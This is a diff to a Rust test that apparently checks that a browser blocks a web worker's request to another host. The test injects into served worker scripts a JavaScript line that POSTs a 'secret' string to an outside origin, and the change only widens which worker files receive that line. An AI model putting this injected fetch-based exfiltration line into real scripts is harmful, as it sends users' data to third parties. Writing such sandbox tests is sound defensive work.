@@ -118,7 +118,7 @@ fn the_browser_refuses_requests_of_the_worker_to_another_host() -> Result<()> {
     let origin = outside.origin();
     let attempt = format!("fetch('{origin}/secret', {{ method: 'POST', body: 'secret' }}).catch(() => {{}});\n");
     let visit = Visit::default().served(move |name, bytes| {
-        let more = if is_built_from(name, "worker-boot", ".js") { attempt.as_bytes() } else { b"" };
+        let more = if is_built_from(name, "worker", ".js") { attempt.as_bytes() } else { b"" };
         Some([more, &bytes[..]].concat())
     });
     visit.tolerating(&origin).run(|page| {
